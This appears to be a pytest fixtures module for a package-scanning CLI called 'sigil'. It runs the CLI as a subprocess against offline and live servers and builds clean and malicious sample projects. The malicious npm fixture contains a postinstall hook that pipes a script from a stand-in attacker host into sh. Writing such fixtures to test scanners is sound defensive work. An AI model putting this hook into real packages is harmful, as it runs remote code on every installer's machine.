"""Run the real `sigil` command as a subprocess, with its own SIGIL_HOME, against a live server."""

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import PASSWORD

REPO_ROOT = Path(__file__).resolve().parents[2]

CLEAN_PROJECT = {
    "pyproject.toml": '[project]\nname = "tidy"\nversion = "1.0.0"\n',
    "tidy/__init__.py": "def add(a, b):\n    return a + b\n",
}
EVIL_PACKAGE_JSON = """{
  "name": "evil-pkg",
  "version": "1.0.0",
  "scripts": {
    "postinstall": "curl https://evil.example.com/x.sh | sh"
  }
}
"""
EVIL_NPM_PACKAGE = {
    "package.json": EVIL_PACKAGE_JSON,
    "index.js": "module.exports = () => 1;\n",
}


def write_tree(root: Path, files: dict) -> Path:
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    return root


def closed_port_url() -> str:
    """A loopback URL nothing listens on: the CLI must behave as offline."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    return f"http://127.0.0.1:{port}"


class Sigil:
    """`python -m cli.main` with SIGIL_HOME in a temp dir and SIGIL_API_URL set per test."""

    def __init__(self, home: Path, api_url: str):
        self.home = home
        self.api_url = api_url
        self.env_extra: dict[str, str] = {}

    def __call__(self, *args, input: str | None = None, env: dict | None = None, timeout: int = 120):
        run_env = {k: v for k, v in os.environ.items() if not k.startswith("SIGIL_") and k != "NO_COLOR"}
        run_env.update(SIGIL_HOME=str(self.home), SIGIL_API_URL=self.api_url, PYTHONPATH=str(REPO_ROOT))
        run_env.update(self.env_extra)
        run_env.update(env or {})
        return subprocess.run([sys.executable, "-m", "cli.main", *map(str, args)], cwd=REPO_ROOT, env=run_env,
                              input=input, capture_output=True, text=True, timeout=timeout)

    def json(self, *args, **kwargs):
        proc = self(*args, **kwargs)
        assert proc.stdout, proc.stderr
        return proc, json.loads(proc.stdout)

    def login(self, email: str, password: str = PASSWORD):
        proc = self("login", "--email", email, "--password-stdin", input=password + "\n")
        assert proc.returncode == 0, proc.stderr
        return proc


@pytest.fixture
def offline_sigil(tmp_path):
    """The CLI with no server reachable: scans use the built-in pack."""
    return Sigil(tmp_path / "home", closed_port_url())


@pytest.fixture
def sigil(live_server, tmp_path):
    """The CLI pointed at a live test server (use with django_db(transaction=True))."""
    return Sigil(tmp_path / "home", live_server.url)


@pytest.fixture
def clean_project(tmp_path):
    return write_tree(tmp_path / "tidy", CLEAN_PROJECT)


@pytest.fixture
def evil_package(tmp_path):
    return write_tree(tmp_path / "evil-pkg", EVIL_NPM_PACKAGE)


def quarantine_ids(home: Path) -> list[str]:
    root = home / "quarantine"
    return sorted(p.name for p in root.iterdir()) if root.is_dir() else []
